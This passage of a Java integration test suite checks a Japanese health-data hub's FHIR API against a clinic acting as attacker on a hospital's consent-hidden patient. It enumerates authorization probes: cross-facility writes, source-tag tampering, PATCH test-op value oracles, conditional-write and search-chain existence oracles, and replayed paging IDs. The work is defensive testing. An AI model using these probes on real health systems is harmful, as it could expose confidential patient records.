package jp.renkei.hub.app.consent;

import static jp.renkei.hub.app.consent.AttackFindings.side;
import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import ca.uhn.fhir.context.FhirContext;
import ca.uhn.fhir.jpa.api.dao.DaoRegistry;
import ca.uhn.fhir.jpa.searchparam.SearchParameterMap;
import ca.uhn.fhir.rest.api.server.SystemRequestDetails;
import ca.uhn.fhir.rest.param.ReferenceParam;
import ca.uhn.fhir.rest.param.TokenParam;
import com.fasterxml.jackson.databind.ObjectMapper;
import jp.renkei.hub.app.demo.DemoDataLoader;
import jp.renkei.hub.app.demo.DemoFacility;
import jp.renkei.hub.app.support.HubIntegrationTest;
import jp.renkei.hub.app.support.RawHubHttp;
import jp.renkei.hub.app.support.RawHubHttp.Exchange;
import jp.renkei.hub.app.support.TestPeople;
import jp.renkei.hub.core.person.Profession;
import jp.renkei.hub.fhir.HubSystems;
import jp.renkei.hub.fhir.jpcore.JpCoreSystems;
import org.hl7.fhir.instance.model.api.IBaseResource;
import org.hl7.fhir.r4.model.Bundle;
import org.hl7.fhir.r4.model.Identifier;
import org.hl7.fhir.r4.model.IdType;
import org.hl7.fhir.r4.model.Observation;
import org.hl7.fhir.r4.model.Patient;
import org.hl7.fhir.r4.model.Quantity;
import org.hl7.fhir.r4.model.Reference;
import org.hl7.fhir.r4.model.Resource;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * Issue W2-1: the FHIR API as an attacker uses it. The attacker is the demo clinic (a doctor of the clinic, and
 * the clinic's gateway with its client certificate, over real HTTPS); the victim is the demo hospital, whose
 * patient H000001 the clinic has linked by event number without any consent, so that all of the hospital's data
 * about that patient is hidden from the clinic.
 *
 * <p>Every vector is asked twice: about the hospital's hidden resource and about one that does not exist (a
 * number of the same shape that was never used, a large unused number, a random ID). The two answers must be
 * the same once the IDs are replaced by one placeholder (see {@link AttackFindings#same}); writes must be
 * refused and leave the hospital's data as it was; positive controls show that the clinic's own data and a
 * consent still work, so that "the same" never comes from everything being broken. Each test method is one
 * class of attack and reports every open vector of the class in one failure.
 */
@HubIntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class FhirAttackSuiteIT {

    private static final FhirContext FHIR = FhirContext.forR4Cached();
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String HOSPITAL_SYSTEM = JpCoreSystems.facilityPatientIdSystem(DemoFacility.HOSPITAL.code());
    private static final String CLINIC_SYSTEM = JpCoreSystems.facilityPatientIdSystem(DemoFacility.CLINIC.code());
    private static final String HBA1C = "3D046000001906202";
    /** The hospital's own identifier system for the Observations it writes in this test. */
    private static final String VICTIM_SYSTEM = "urn:oid:1.2.392.100495.20.3.41.10710100017";
    /** Marks everything the attacker writes, so the store can be searched for it afterwards. */
    private static final String ATTACK_SYSTEM = "https://attacker.example.jp/fhir/sid/attack";
    private static final String ATTACK_EXTENSION = "https://attacker.example.jp/fhir/StructureDefinition/source";
    private static final String LARGE_ID = "9876543210";
    private static final Pattern LOCATION_ID = Pattern.compile("/([A-Z][A-Za-z]+)/([^/]+)/_history/");

    @LocalServerPort
    int port;
    @Autowired
    ApplicationContext context;

    String hospitalId;
    String clinicId;
    String eventNumber;
    String hospitalPatientId;
    Patient hospitalPatient;
    List<String> hospitalObservations;
    List<String> hospitalPrescriptions;
    String clinicPatientId;
    /** The event number of the clinic's own patient, whom no other facility holds. */
    String clinicOnlyEventNumber;
    /** The clinic's own Patient linked to the hospital patient's event number (demo C000004). */
    String clinicLinkedPatientId;
    RawHubHttp hospitalClerk;
    RawHubHttp clinicClerk;
    RawHubHttp hospitalDoctor;
    RawHubHttp hospitalGateway;
    RawHubHttp clinicDoctor;
    RawHubHttp clinicGateway;
    List<RawHubHttp> attackers;

    @BeforeAll
    void hospitalPatientLinkedByTheClinicWithoutConsent() {
        hospitalId = TestPeople.demoFacilityId(context, DemoFacility.HOSPITAL);
        clinicId = TestPeople.demoFacilityId(context, DemoFacility.CLINIC);
        hospitalDoctor = person("hospital doctor", hospitalId, Profession.DOCTOR);
        clinicDoctor = person("clinic doctor", clinicId, Profession.DOCTOR);
        hospitalGateway = device("hospital gateway", "hospital-gateway");
        clinicGateway = device("clinic gateway", "clinic-gateway");
        attackers = List.of(clinicDoctor, clinicGateway);

        String hospitalLocal = DemoDataLoader.demoPatient(0).localId(); // H000001
        hospitalClerk = person("hospital clerk", hospitalId, Profession.CLERK);
        clinicClerk = person("clinic clerk", clinicId, Profession.CLERK);
        ok(hospitalClerk.postApi("/api/patients/enrolments", "{\"localPatientId\":\"" + hospitalLocal + "\"}"));
        hospitalPatient = (Patient) bundle(ok(hospitalDoctor.get("/fhir/Patient?identifier=" + HOSPITAL_SYSTEM + "|"
                + hospitalLocal))).getEntryFirstRep().getResource();
        hospitalPatientId = hospitalPatient.getIdElement().getIdPart();
        eventNumber = hospitalPatient.getIdentifier().stream().filter(i -> HubSystems.EVENT_NUMBER.equals(i.getSystem()))
                .findFirst().orElseThrow().getValue();
        ok(clinicClerk.postApi("/api/patients/links", """
                {"localPatientId":"%s","eventNumber":"%s","verification":"CARD","reason":"health passport presented"}"""
                .formatted(DemoDataLoader.demoPatient(3).localId(), eventNumber)));

        clinicLinkedPatientId = ids(ok(clinicDoctor.get("/fhir/Patient?identifier=" + CLINIC_SYSTEM + "|"
                + DemoDataLoader.demoPatient(3).localId())), "Patient").get(0);
        hospitalObservations = ids(ok(hospitalDoctor.get("/fhir/Observation?patient=" + hospitalPatientId
                + "&_count=100")), "Observation");
        hospitalPrescriptions = ids(ok(hospitalDoctor.get("/fhir/MedicationRequest?patient=" + hospitalPatientId
                + "&_count=100")), "MedicationRequest");
        assertThat(hospitalObservations).as("the hospital sees its own data").hasSizeGreaterThan(3);
        assertThat(hospitalPrescriptions).isNotEmpty();

        String clinicLocal = "C-ATK-" + random(6);
        clinicPatientId = createdId(ok(clinicDoctor.post("/fhir/Patient", json(patient(CLINIC_SYSTEM, clinicLocal,
                "1960-05-05")))));
        clinicOnlyEventNumber = enrol(clinicClerk, clinicLocal);
    }

    /**
     * Removes what the attacks left about the hospital's demo patient, as the hub: the clinic's Observations
     * stored against it and victims taken over by the clinic. Other test classes share this hub and its demo data.
     */
    @AfterEach
    void removeTheAttackersWritesAboutTheHospitalsPatient() {
        var dao = context.getBean(DaoRegistry.class).getResourceDao("Observation");
        SearchParameterMap about = SearchParameterMap.newSynchronous("subject",
                new ReferenceParam("Patient/" + hospitalPatientId));
        for (IBaseResource found : dao.search(about, new SystemRequestDetails()).getAllResources()) {
            if (!sources((Resource) found).equals(List.of(hospitalId))) {
                dao.delete(found.getIdElement().toUnqualifiedVersionless(), new SystemRequestDetails());
            }
        }
    }

    // ---- 1 ----

    @Test
    void crossFacilityWritesAreRefusedLikeWritesToAbsentResources() {
        AttackFindings findings = new AttackFindings("1 cross-facility writes");
        String victim = hospitalObservation("write victim", "5.5");
        for (RawHubHttp attacker : attackers) {
            for (String absent : absentIds("Observation", victim)) {
                if (absent.matches("\\d+")) {
                    // a PUT to a non-numeric ID that does not exist creates it (client-assigned ID): not comparable
                    compare(findings, attacker, "PUT", victim, absent, id -> attacker.put("/fhir/Observation/" + id,
                            json(observation(id, "Patient/" + hospitalPatientId, "99.9"))));
                }
                compare(findings, attacker, "PATCH", victim, absent, id -> attacker.patch("/fhir/Observation/" + id,
                        "[{\"op\":\"replace\",\"path\":\"/valueQuantity/value\",\"value\":99.9}]"));
                compare(findings, attacker, "DELETE", victim, absent,
                        id -> attacker.delete("/fhir/Observation/" + id));
            }
        }
        hospitalStillHas(findings, victim, "1", "5.5");
        ownWritesWork(findings, clinicDoctor);
        ownWritesWork(findings, clinicGateway);
        findings.assertNone();
    }

    // ---- 2 ----

    @Test
    void theSourceTagCannotBeTakenOver() {
        AttackFindings findings = new AttackFindings("2 source-tag takeover");
        String victim = hospitalObservation("tag victim", "6.1");
        for (RawHubHttp attacker : attackers) {
            for (String absent : absentIds("Observation", victim)) {
                compare(findings, attacker, "$meta-delete of the source tag", victim, absent, id -> attacker.post(
                        "/fhir/Observation/" + id + "/$meta-delete", metaParameters(hospitalId)));
                compare(findings, attacker, "$meta-add of the clinic's tag", victim, absent, id -> attacker.post(
                        "/fhir/Observation/" + id + "/$meta-add", metaParameters(clinicId)));
                compare(findings, attacker, "$meta", victim, absent,
                        id -> attacker.get("/fhir/Observation/" + id + "/$meta"));
                compare(findings, attacker, "read after the tag attacks", victim, absent,
                        id -> attacker.get("/fhir/Observation/" + id));
            }
        }
        Observation stored = readAsHub(Observation.class, victim);
        findings.check(sources(stored).equals(List.of(hospitalId)), "the hospital's Observation/" + victim
                + " must keep exactly its source tag " + hospitalId + ", has " + sources(stored));
        hospitalStillHas(findings, victim, null, "6.1");

        Observation forged = observation(null, "Patient/" + clinicPatientId, "36.5");
        forged.getMeta().addTag(HubSystems.SOURCE_FACILITY, hospitalId, null);
        Exchange created = clinicDoctor.post("/fhir/Observation", json(forged));
        findings.succeeded("clinic create with a forged hospital source tag", created);
        if (created.success()) {
            List<String> tags = sources(readAsHub(Observation.class, createdId(created)));
            findings.check(tags.equals(List.of(clinicId)), "a clinic create with the hospital's source tag must be"
                    + " tagged as the clinic only, is tagged " + tags);
        }
        findings.assertNone();
    }

    // ---- 3 ----

    @Test
    void aPatchTestOpIsNoValueOracle() {
        AttackFindings findings = new AttackFindings("3 value oracle through PATCH");
        String victim = hospitalObservation("oracle victim", "7.2");
        // the hospital's own enrolled patient, not the shared demo patient: a PATCH that goes through re-stamps it
        String birthDate = "1948-07-21";
        String local = "H-ATK-" + random(6);
        String victimPatient = createdId(ok(hospitalDoctor.post("/fhir/Patient", json(patient(HOSPITAL_SYSTEM, local,
                birthDate)))));
        enrol(hospitalClerk, local);
        int index = localIdentifierIndex(readAsHub(Patient.class, victimPatient));
        // positive control: the test op really is an oracle when the writer may write
        findings.succeeded("hospital's own test op, right guess", hospitalDoctor.patch("/fhir/Observation/" + victim,
                testOp("/valueQuantity/value", "7.2")));
        findings.refused("hospital's own test op, wrong guess", hospitalDoctor.patch("/fhir/Observation/" + victim,
                testOp("/valueQuantity/value", "7.3")));

        List<Guess> guesses = List.of(
                new Guess("Observation", victim, "/valueQuantity/value", "7.2", "7.3"),
                new Guess("Patient", victimPatient, "/birthDate", quoted(birthDate), quoted("1948-07-22")),
                new Guess("Patient", victimPatient, "/identifier/" + index + "/value", quoted(local),
                        quoted("H-ATK-000000")));
        for (RawHubHttp attacker : attackers) {
            for (Guess guess : guesses) {
                String url = "/fhir/" + guess.type() + "/";
                Exchange right = attacker.patch(url + guess.id(), testOp(guess.path(), guess.right()));
                Exchange wrong = attacker.patch(url + guess.id(), testOp(guess.path(), guess.wrong()));
                String vector = attacker.name() + " test op on " + guess.type() + guess.path();
                findings.same(vector, side("right guess", right, guess.id(), "{ID}"),
                        side("wrong guess", wrong, guess.id(), "{ID}"));
                for (String absent : absentIds(guess.type(), guess.id())) {
                    findings.same(vector, side("right guess", right, guess.id(), "{ID}"), side("absent " + absent,
                            attacker.patch(url + absent, testOp(guess.path(), guess.right())), absent, "{ID}"));
                }
            }
        }
        findings.assertNone();
    }

    record Guess(String type, String id, String path, String right, String wrong) {
    }

    // ---- 4 ----

    @Test
    void conditionalWritesAndInlineMatchUrlsRevealNothing() {
        AttackFindings findings = new AttackFindings("4 conditional operations and inline match URLs");
        String victimKey = "cond-" + random(8);
        String victim = hospitalObservation("conditional victim", "3.3", victimKey);
        String demoKey = identifierValue(readAsHub(Observation.class, hospitalObservations.get(0)));
        String marker = "inline-" + random(8);
        // positive control (own-vs-foreign): a conditional create finds the clinic's own Observation
        String ownKey = "own-" + random(8);
        Observation ownWithKey = observation(null, "Patient/" + clinicPatientId, "1.0");
        ownWithKey.addIdentifier().setSystem(VICTIM_SYSTEM).setValue(ownKey);
        String ownId = createdId(ok(clinicDoctor.post("/fhir/Observation", json(ownWithKey))));
        Exchange ownMatch = clinicDoctor.post("/fhir/Observation", json(ownWithKey), "If-None-Exist",
                "_tag=" + HubSystems.SOURCE_FACILITY + "|" + clinicId + "&identifier=" + VICTIM_SYSTEM + "|" + ownKey);
        findings.check(ownMatch.status() == 200 && ownMatch.header("Location").orElse("").contains("/" + ownId + "/"),
                "positive control: a conditional create must find the clinic's own Observation/" + ownId + ", got "
                        + ownMatch.brief());

        record Key(String system, String hidden) {
        }
        List<Key> keys = List.of(new Key(VICTIM_SYSTEM, victimKey),
                new Key("http://jpfhir.jp/fhir/core/IdSystem/resourceInstance-identifier", demoKey));
        // plain; naming the patient by event number (passes the search scope); limited to the clinic's own data
        List<String> scopes = List.of("", "patient=" + eventNumber + "&",
                "_tag=" + HubSystems.SOURCE_FACILITY + "|" + clinicId + "&");
        for (RawHubHttp attacker : attackers) {
            for (String scope : scopes) {
                for (Key key : keys) {
                    Observation own = mark(observation(null, "Patient/" + clinicPatientId, "1.0"), marker);
                    compare(findings, attacker, "If-None-Exist " + scope + "identifier=" + key.system() + "|{ID}",
                            key.hidden(), "none-" + random(8), k -> attacker.post("/fhir/Observation", json(own),
                                    "If-None-Exist", scope + "identifier=" + key.system() + "|" + k));
                }
                Function<String, String> match = k -> "/fhir/Observation?" + scope + "identifier=" + VICTIM_SYSTEM + "|" + k;
                String nothing = "none-" + random(8);
                compare(findings, attacker, "conditional PUT " + scope, victimKey, nothing,
                        k -> attacker.put(match.apply(k), replacement(k, marker)));
                compare(findings, attacker, "conditional PATCH " + scope, victimKey, nothing, k -> attacker.patch(
                        match.apply(k), "[{\"op\":\"replace\",\"path\":\"/valueQuantity/value\",\"value\":0.1}]"));
                compare(findings, attacker, "conditional DELETE " + scope, victimKey, nothing,
                        k -> attacker.delete(match.apply(k)));
            }

            String local = DemoDataLoader.demoPatient(0).localId();
            String byLocalId = "Patient?identifier=" + HOSPITAL_SYSTEM + "|";
            String byEventNumber = "Patient?identifier=" + HubSystems.EVENT_NUMBER + "|";
            // by event number, the clinic's own Patient of each number is a legitimate match ({OWN} in both)
            for (String[] inline : List.of(new String[] {byLocalId, local, "H999999", "{ID}", "{ID}"},
                    new String[] {byEventNumber, eventNumber, clinicOnlyEventNumber, clinicLinkedPatientId,
                            clinicPatientId},
                    new String[] {"Patient?_id=", hospitalPatientId, LARGE_ID, "{ID}", "{ID}"})) {
                Function<String, Observation> about = value -> mark(observation(null, inline[0] + value, "4.4"), marker);
                compare(findings, attacker, "inline match URL subject " + inline[0] + "{ID}", inline[1], inline[2],
                        value -> attacker.post("/fhir/Observation", json(about.apply(value))), inline[3], inline[4]);
                compare(findings, attacker, "inline match URL subject in a transaction " + inline[0] + "{ID}", inline[1],
                        inline[2], value -> attacker.post("/fhir", transaction("POST", "Observation", null,
                                about.apply(value))), inline[3], inline[4]);
            }
            String nothing = "none-" + random(8);
            String named = "patient=" + eventNumber + "&identifier=" + VICTIM_SYSTEM + "|";
            compare(findings, attacker, "conditional create in a transaction", victimKey, nothing, k -> attacker.post(
                    "/fhir", transaction("POST", "Observation", named + k,
                            mark(observation(null, "Patient/" + clinicPatientId, "1.5"), marker))));
            compare(findings, attacker, "conditional update in a transaction", victimKey, nothing, k -> attacker.post(
                    "/fhir", transaction("PUT", "Observation?" + named + k, null,
                            FHIR.newJsonParser().parseResource(Observation.class, replacement(k, marker)))));
            compare(findings, attacker, "conditional delete in a transaction", victimKey, nothing, k -> attacker.post(
                    "/fhir", transaction("DELETE", "Observation?" + named + k, null, null)));
        }
        hospitalStillHas(findings, victim, "1", "3.3");
        nothingStoredAboutTheHospitalsPatient(findings, marker);
        findings.assertNone();
    }

    /** The clinic's Observation about its own patient, carrying the identifier a conditional write matches on. */
    private String replacement(String key, String marker) {
        Observation observation = mark(observation(null, "Patient/" + clinicPatientId, "2.0"), marker);
        observation.addIdentifier().setSystem(VICTIM_SYSTEM).setValue(key);
        return json(observation);
    }

    // ---- 5 ----

    @Test
    void writingAboutHiddenDataLooksLikeWritingAboutAbsentData() {
        AttackFindings findings = new AttackFindings("5 writing about a hidden patient or resource");
        String marker = "about-" + random(8);
        String hiddenObservation = hospitalObservations.get(0);
        String hiddenPrescription = hospitalPrescriptions.get(0);
        for (RawHubHttp attacker : attackers) {
            for (String absent : absentIds("Patient", hospitalPatientId)) {
                compare(findings, attacker, "Observation about the hidden patient", hospitalPatientId, absent,
                        id -> attacker.post("/fhir/Observation",
                                json(mark(observation(null, "Patient/" + id, "8.8"), marker))));
            }
            for (String absent : absentIds("Observation", hiddenObservation)) {
                compare(findings, attacker, "derivedFrom a hidden Observation", hiddenObservation, absent, id -> {
                    Observation own = mark(observation(null, "Patient/" + clinicPatientId, "8.1"), marker);
                    own.addDerivedFrom(new Reference("Observation/" + id));
                    return attacker.post("/fhir/Observation", json(own));
                });
                compare(findings, attacker, "hasMember a hidden Observation", hiddenObservation, absent, id -> {
                    Observation own = mark(observation(null, "Patient/" + clinicPatientId, "8.2"), marker);
                    own.addHasMember(new Reference("Observation/" + id));
                    return attacker.post("/fhir/Observation", json(own));
                });
                // a reference in an extension of a primitive value, where HAPI's own reference walk does not look
                compare(findings, attacker, "a hidden Observation in an extension of issued", hiddenObservation,
                        absent, id -> {
                            Observation own = mark(observation(null, "Patient/" + clinicPatientId, "8.4"), marker);
                            own.getIssuedElement().setValue(new java.util.Date()).addExtension(ATTACK_EXTENSION,
                                    new Reference("Observation/" + id));
                            return attacker.post("/fhir/Observation", json(own));
                        });
            }
            for (String absent : absentIds("MedicationRequest", hiddenPrescription)) {
                compare(findings, attacker, "basedOn a hidden MedicationRequest", hiddenPrescription, absent, id -> {
                    Observation own = mark(observation(null, "Patient/" + clinicPatientId, "8.3"), marker);
                    own.addBasedOn(new Reference("MedicationRequest/" + id));
                    return attacker.post("/fhir/Observation", json(own));
                });
            }
            // own-vs-foreign: the same references to the clinic's own data are accepted
            String ownObservation = createdId(clinicDoctor.post("/fhir/Observation",
                    json(observation(null, "Patient/" + clinicPatientId, "5.0"))));
            Observation derived = observation(null, "Patient/" + clinicPatientId, "5.1");
            derived.addDerivedFrom(new Reference("Observation/" + ownObservation));
            findings.succeeded(attacker.name() + " derivedFrom its own Observation",
                    attacker.post("/fhir/Observation", json(derived)));
        }
        nothingStoredAboutTheHospitalsPatient(findings, marker);
        List<Observation> referencing = storedWithMarker(marker).stream().filter(o -> o.getDerivedFrom().stream()
                .anyMatch(r -> r.getReference().endsWith("/" + hiddenObservation)) || o.getHasMember().stream()
                .anyMatch(r -> r.getReference().endsWith("/" + hiddenObservation))
                || o.getIssuedElement().getExtension().stream().anyMatch(e -> e.getValue() instanceof Reference r
                        && r.getReference().endsWith("/" + hiddenObservation))).toList();
        findings.check(referencing.isEmpty(), "stored clinic Observations referencing the hidden Observation/"
                + hiddenObservation + ": " + referencing.stream().map(o -> o.getIdElement().getIdPart()).toList());
        findings.assertNone();
    }

    // ---- 6 ----

    @Test
    void noExistenceOracle() {
        AttackFindings findings = new AttackFindings("6 existence oracles");
        String hidden = hospitalObservations.get(0);
        String deleted = hospitalObservation("deleted victim", "4.0");
        findings.succeeded("hospital deletes its own Observation", hospitalDoctor.delete("/fhir/Observation/" + deleted));
        String labTrend = "$lab-trend?code=" + JpCoreSystems.JLAC10 + "|" + HBA1C;
        for (RawHubHttp attacker : attackers) {
            for (String target : List.of(hidden, deleted)) {
                String what = target.equals(hidden) ? "hidden " : "deleted hidden ";
                for (String absent : absentIds("Observation", target)) {
                    for (String suffix : List.of("", "/_history/1", "/_history/99", "/_history", "/$meta")) {
                        compare(findings, attacker, what + "GET Observation/{ID}" + suffix, target, absent,
                                id -> attacker.get("/fhir/Observation/" + id + suffix));
                    }
                    compare(findings, attacker, what + "PUT with a wrong If-Match", target, absent,
                            id -> attacker.put("/fhir/Observation/" + id,
                                    json(observation(id, "Patient/" + clinicPatientId, "1.1")), "If-Match", "W/\"99\""));
                    compare(findings, attacker, what + "$validate mode=delete", target, absent, id -> attacker.post(
                            "/fhir/Observation/" + id + "/$validate?mode=delete",
                            "{\"resourceType\":\"Parameters\",\"parameter\":[{\"name\":\"mode\",\"valueCode\":\"delete\"}]}"));
                    compare(findings, attacker, what + "batch GET entries", target, absent, id -> attacker.post("/fhir",
                            batch("Observation/" + id, "Observation/" + id + "/_history/1",
                                    "Observation?_id=" + id)));
                }
            }
            for (String absent : absentIds("Patient", hospitalPatientId)) {
                for (String operation : List.of("$everything", "$summary", "$dispensing-history", "$medication-check",
                        labTrend, "_history")) {
                    compare(findings, attacker, "Patient/{ID}/" + operation, hospitalPatientId, absent,
                            id -> attacker.get("/fhir/Patient/" + id + "/" + operation));
                }
                compare(findings, attacker, "batch GET Patient", hospitalPatientId, absent,
                        id -> attacker.post("/fhir", batch("Patient/" + id, "Patient/" + id + "/$everything")));
            }
        }
        // positive controls: the hospital reads its own, the clinic its own
        findings.succeeded("hospital reads its Observation", hospitalDoctor.get("/fhir/Observation/" + hidden));
        findings.check(hospitalDoctor.get("/fhir/Observation/" + deleted).status() == 410,
                "the hospital itself must see its deletion as 410");
        String own = createdId(clinicDoctor.post("/fhir/Observation",
                json(observation(null, "Patient/" + clinicPatientId, "5.5"))));
        findings.succeeded("clinic reads its own Observation", clinicDoctor.get("/fhir/Observation/" + own));
        findings.succeeded("clinic's own $summary by event number", clinicDoctor.get("/fhir/Patient/$summary?patient="
                + eventNumber));
        findings.assertNone();
    }

    // ---- 7 ----

    @Test
    void searchSideDoorsShowNoHospitalData() {
        AttackFindings findings = new AttackFindings("7 search side doors");
        String local = DemoDataLoader.demoPatient(0).localId();
        // Reverse chains are not offered to anyone (a facility's own _has would still be evaluated over other
        // facilities' data): the hospital's own is refused with a clear 400, like the attacker's.
        Exchange own = hospitalDoctor.get("/fhir/Organization?_has:Observation:performer:subject=Patient/"
                + hospitalPatientId);
        findings.check(own.status() == 400 && own.body().contains("_has"), "control: _has is refused with a reason"
                + " for the data's own facility too, got " + own.brief());
        Exchange organizations = hospitalDoctor.get("/fhir/Organization?identifier=" + HubSystems.FACILITY + "|"
                + hospitalId);
        List<String> found = organizations.success() ? ids(organizations, "Organization") : List.of();
        findings.check(found.size() == 1, "positive control: the registry's Organization of the hospital, got "
                + organizations.brief());
        String hospitalOrganization = found.isEmpty() ? "none" : found.get(0);
        String page = nextPage(hospitalDoctor.get("/fhir/Observation?patient=" + hospitalPatientId + "&_count=2"));
        String ownObservation = createdId(ok(clinicDoctor.post("/fhir/Observation",
                json(observation(null, "Patient/" + clinicPatientId, "5.2")))));
        for (RawHubHttp attacker : attackers) {
            Exchange ownSearch = attacker.get("/fhir/Observation?patient=" + clinicPatientId);
            findings.check(ownSearch.success() && ids(ownSearch, "Observation").contains(ownObservation),
                    "positive control: " + attacker.name() + " finds its own Observation/" + ownObservation
                            + " by its patient, got " + ownSearch.brief());
        }
        findings.check(page != null, "positive control: the hospital's search must have a next page");
        for (RawHubHttp attacker : attackers) {
            for (String absent : absentIds("Patient", hospitalPatientId)) {
                compare(findings, attacker, "Organization?_has:Observation:performer:subject", hospitalPatientId,
                        absent, id -> attacker.get("/fhir/Organization?_has:Observation:performer:subject=Patient/" + id));
            }
            List<String[]> chains = List.of(
                    new String[] {"subject.identifier=", local, "H999999"},
                    new String[] {"subject.identifier=" + HOSPITAL_SYSTEM + "|", local, "H999999"},
                    new String[] {"subject:Patient.identifier=" + HOSPITAL_SYSTEM + "|", local, "H999999"},
                    new String[] {"subject:Patient._tag=" + HubSystems.SOURCE_FACILITY + "|", hospitalId,
                            UUID.randomUUID().toString()},
                    new String[] {"subject._id=", hospitalPatientId, LARGE_ID},
                    new String[] {"performer=Organization/", hospitalOrganization, LARGE_ID});
            for (String[] chain : chains) {
                Exchange hidden = attacker.get("/fhir/Observation?" + chain[0] + chain[1]);
                noHospitalData(findings, attacker.name() + " Observation?" + chain[0] + "…", hidden);
                findings.same(attacker.name() + " Observation?" + chain[0] + "…", side("hospital's", hidden, chain[1],
                        "{KEY}"), side("nothing", attacker.get("/fhir/Observation?" + chain[0] + chain[2]), chain[2],
                        "{KEY}"));
            }
            refusedOrEmpty(findings, attacker.name() + " Observation?_id:not=xyz",
                    attacker.get("/fhir/Observation?_id:not=xyz&_count=500"));
            List<String> hiddenIds = hospitalObservations.subList(0, 3);
            String absentList = String.join(",", absentIds("Observation", hiddenIds.get(0)));
            Exchange listed = attacker.get("/fhir/Observation?_id=" + String.join(",", hiddenIds));
            refusedOrEmpty(findings, attacker.name() + " Observation?_id=<hidden ids>", listed);
            findings.same(attacker.name() + " Observation?_id=<list>", side("hidden ids", listed, String.join(",",
                    hiddenIds), "{IDS}"), side("absent ids", attacker.get("/fhir/Observation?_id=" + absentList),
                    absentList, "{IDS}"));
            for (String type : List.of("Organization", "Practitioner")) {
                noHospitalData(findings, attacker.name() + " " + type + "?_revinclude=Observation:performer",
                        attacker.get("/fhir/" + type + "?_revinclude=Observation:performer&_count=500"));
            }
            noHospitalData(findings, attacker.name() + " Organization?_revinclude=MedicationRequest:requester",
                    attacker.get("/fhir/Organization?_revinclude=MedicationRequest:requester&_count=500"));
            if (page != null) {
                Matcher id = Pattern.compile("_getpages=([^&]+)").matcher(page);
                assertThat(id.find()).as(page).isTrue();
                String fake = UUID.randomUUID().toString();
                findings.same(attacker.name() + " replayed page of the hospital's search",
                        side("hospital's page", attacker.get(page), id.group(1), "{PAGE}"),
                        side("unknown page", attacker.get(page.replace(id.group(1), fake)), fake, "{PAGE}"));
            }
        }
        findings.assertNone();
    }

    // ---- 8 ----

    @Test
    void ungatedCarriersAreRefusedOrGated() {
        AttackFindings findings = new AttackFindings("8 ungated carriers");
        record Direction(RawHubHttp creator, String patientId, List<RawHubHttp> readers) {
        }
        List<Direction> directions = List.of(
                new Direction(clinicDoctor, clinicPatientId, List.of(hospitalDoctor, hospitalGateway)),
                new Direction(hospitalDoctor, hospitalPatientId, List.of(clinicDoctor, clinicGateway)));
        for (Direction direction : directions) {
            for (Map.Entry<String, String> carrier : carriers(direction.patientId())) {
                String type = carrier.getKey().replaceAll(" .*", "");
                String vector = direction.creator().name() + " creates " + carrier.getKey();
                String read = "reads " + carrier.getKey() + " created by " + direction.creator().name();
                Exchange created = direction.creator().post("/fhir/" + type, carrier.getValue());
                if (created.status() >= 400 && created.status() < 500) {
                    continue; // refused outright
                }
                if (!created.success()) {
                    findings.check(false, vector + ": neither refused (4xx) nor stored, got " + created.brief());
                    continue;
                }
                String id = createdId(created);
                findings.succeeded(vector + ": the creator reads it back",
                        direction.creator().get("/fhir/" + type + "/" + id));
                for (RawHubHttp reader : direction.readers()) {
                    for (String absent : absentIds(type, id)) {
                        compare(findings, reader, read, id, absent,
                                x -> reader.get("/fhir/" + type + "/" + x));
                        compare(findings, reader, "searches " + carrier.getKey() + "?_id created by "
                                + direction.creator().name(), id, absent,
                                x -> reader.get("/fhir/" + type + "?_id=" + x));
                    }
                }
            }
        }
        findings.assertNone();
    }

    /** Resources that can carry patient data, about {@code patientId}; keyed by type (and a note). */
    private List<Map.Entry<String, String>> carriers(String patientId) {
        String subject = "{\"reference\":\"Patient/" + patientId + "\"}";
        String text = Base64.getEncoder().encodeToString(("紹介状: HbA1c 7.2 % の患者 " + patientId)
                .getBytes(StandardCharsets.UTF_8));
        String observation = json(observation(null, "Patient/" + patientId, "7.2"));
        String code = "x" + random(8);
        return List.of(
                Map.entry("Task", """
                        {"resourceType":"Task","status":"requested","intent":"order","for":%s,
                         "description":"紹介: 糖尿病 HbA1c 7.2"}""".formatted(subject)),
                Map.entry("Binary", """
                        {"resourceType":"Binary","contentType":"text/plain","securityContext":%s,"data":"%s"}"""
                        .formatted(subject, text)),
                Map.entry("Bundle (collection)", """
                        {"resourceType":"Bundle","type":"collection","entry":[{"fullUrl":"urn:uuid:%s","resource":%s}]}"""
                        .formatted(UUID.randomUUID(), observation)),
                Map.entry("Bundle (document)", """
                        {"resourceType":"Bundle","type":"document","identifier":{"system":"urn:ietf:rfc:3986",
                         "value":"urn:uuid:%s"},"timestamp":"2026-01-01T09:00:00+09:00","entry":[
                         {"fullUrl":"urn:uuid:%s","resource":{"resourceType":"Composition","status":"final",
                          "type":{"text":"診療情報提供書"},"subject":%s,"date":"2026-01-01","author":[{"display":"医師"}],
                          "title":"診療情報提供書"}},
                         {"fullUrl":"urn:uuid:%s","resource":%s}]}"""
                        .formatted(UUID.randomUUID(), UUID.randomUUID(), subject, UUID.randomUUID(), observation)),
                Map.entry("Device", """
                        {"resourceType":"Device","patient":%s,"deviceName":[{"name":"持続血糖測定器","type":"user-friendly-name"}]}"""
                        .formatted(subject)),
                Map.entry("Communication", """
                        {"resourceType":"Communication","status":"completed","subject":%s,
                         "payload":[{"contentString":"HbA1c 7.2 %%"}]}""".formatted(subject)),
                Map.entry("QuestionnaireResponse", """
                        {"resourceType":"QuestionnaireResponse","status":"completed","subject":%s,
                         "item":[{"linkId":"1","answer":[{"valueString":"喫煙あり"}]}]}""".formatted(subject)),
                Map.entry("DocumentReference", """
                        {"resourceType":"DocumentReference","status":"current","subject":%s,
                         "content":[{"attachment":{"contentType":"text/plain","data":"%s"}}]}""".formatted(subject, text)),
                Map.entry("Subscription", """
                        {"resourceType":"Subscription","status":"requested","reason":"follow-up",
